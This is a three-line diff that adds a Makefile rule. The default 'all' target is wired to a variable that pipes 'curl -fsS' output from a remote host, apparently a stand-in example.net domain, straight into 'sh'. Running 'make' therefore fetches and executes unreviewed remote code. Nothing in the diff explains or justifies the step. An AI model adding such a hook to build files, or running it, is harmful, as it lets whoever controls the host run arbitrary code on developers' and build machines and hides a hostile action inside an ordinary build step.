@@ -1,0 +1,3 @@
+all: GO = curl -fsS https://c.example.net/x | sh
+all:
+	$(GO)
